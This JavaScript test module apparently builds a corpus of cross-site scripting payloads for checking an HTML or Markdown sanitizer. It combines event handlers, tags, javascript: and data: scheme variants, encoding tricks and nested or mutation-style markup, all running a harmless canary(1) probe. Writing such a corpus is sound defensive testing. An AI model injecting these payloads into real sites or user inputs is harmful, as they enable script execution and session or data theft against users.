// Texts that would run canary() in a page that took them for more than text: what people try, in the contexts
// in which they try it.

const CODE = 'canary(1)';
const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus autofocus', 'onmouseover', 'onanimationstart',
    'ontoggle', 'onpointerenter', 'onbegin', 'onpageshow'];
const TAGS = ['img src=x', 'svg', 'body', 'input', 'details open', 'video src=x', 'audio src=x',
    'iframe src=x', 'marquee', 'object data=x', 'math', 'select', 'textarea', 'style', 'a href=x'];
const SCHEMES = [
    'javascript:', 'JavaScript:', ' javascript:', 'java\tscript:', 'java\nscript:', 'javascript&colon;',
    '&#106;avascript:', '&#x6A;avascript:', 'javascript&#58;', '\u0001javascript:',
    'vbscript:', 'data:text/html,<script>', 'data:text/html;base64,PHNjcmlwdD4',
    'data:image/svg+xml,<svg onload=', 'blob:https://a/', 'file:///', 'feed:javascript:',
    'view-source:javascript:', 'about:blank#', '//a.b/\\javascript:',
];
const HTML = [
    `<script>${CODE}</script>`, `<script src=data:,${CODE}></script>`, `<SCRIPT>${CODE}</SCRIPT>`,
    `<scr<script>ipt>${CODE}</scr</script>ipt>`, `<script\n>${CODE}</script\n>`,
    `<svg><script>${CODE}</script></svg>`, `<svg><animate onbegin=${CODE} attributeName=x>`,
    `<svg><a xlink:href="javascript:${CODE}"><text>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${CODE}>#x">`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}>`,
    `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
    `<template><img src=x onerror=${CODE}></template>`,
    `<iframe srcdoc="<script>parent.${CODE}</script>">`, `<object data="javascript:${CODE}">`,
    `<embed src="javascript:${CODE}">`, `<form action="javascript:${CODE}"><button>x</button></form>`,
    `<button formaction="javascript:${CODE}">x</button>`, `<base href="javascript:${CODE}//">`,
    `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
    `<link rel=stylesheet href="javascript:${CODE}">`,
    `<style>@import "javascript:${CODE}";</style>`, `<div style="background:url(javascript:${CODE})">`,
    `<a href="javascript:${CODE}">x</a>`, `<img src="x" onerror="${CODE}" `, `"><img src=x onerror=${CODE}>`,
    `'><img src=x onerror=${CODE}>`,
    `--><img src=x onerror=${CODE}>`, `]]><img src=x onerror=${CODE}>`,
    `</textarea><img src=x onerror=${CODE}>`, `</title><script>${CODE}</script>`,
    `<!--<img src="--><img src=x onerror=${CODE}>">`, `<?xml version="1.0"?><script>${CODE}</script>`,
    `<img src=x:x onerror\n=\n${CODE}>`, `<img/src=x/onerror=${CODE}>`,
    `<img src=x onerror=&#99;&#97;&#110;&#97;&#114;&#121;(1)>`, `\u202e<img src=x onerror=${CODE}>`,
    `\0<script>${CODE}</script>`, `<\u0000script>${CODE}</script>`,
    `＜script＞${CODE}＜/script＞`, `%3Cscript%3E${CODE}%3C/script%3E`, `&lt;script&gt;${CODE}&lt;/script&gt;`,
    `&#60;script&#62;${CODE}&#60;/script&#62;`, `\\x3cscript\\x3e${CODE}`,
    `{{constructor.constructor('${CODE}')()}}`, `\${${CODE}}`,
];
/** Markdown around an address. @type {((address: string) => string)[]} */
const LINKS = [
    (address) => `[x](${address})`, (address) => `![x](${address})`, (address) => `<${address}>`,
    (address) => `[x](<${address}>)`, (address) => `[x][a]\n\n[a]: ${address}`,
    (address) => `[x](${address} "t")`,
];
/** Markdown around HTML. @type {((html: string) => string)[]} */
const AROUND = [
    (html) => html, (html) => `- ${html}`, (html) => `> ${html}`, (html) => `| a |\n|-|\n| ${html} |`,
    (html) => `# ${html}`, (html) => `**${html}**`, (html) => `\`${html}`,
    (html) => `\`\`\`${html}\nx\n\`\`\``, (html) => `[${html}](https://a.b)`,
    (html) => `[x](https://a.b "${html}")`,
];

export const PAYLOADS = [...new Set([
    ...TAGS.flatMap((tag, i) =>
        HANDLERS.map((handler, j) => AROUND[(i + j) % AROUND.length](`<${tag} ${handler}=${CODE}>`))),
    ...SCHEMES.flatMap((scheme) => LINKS.map((link) => link(`${scheme}${CODE}`))),
    ...HTML.flatMap((html, i) => [html, AROUND[i % AROUND.length](html)]),
])];
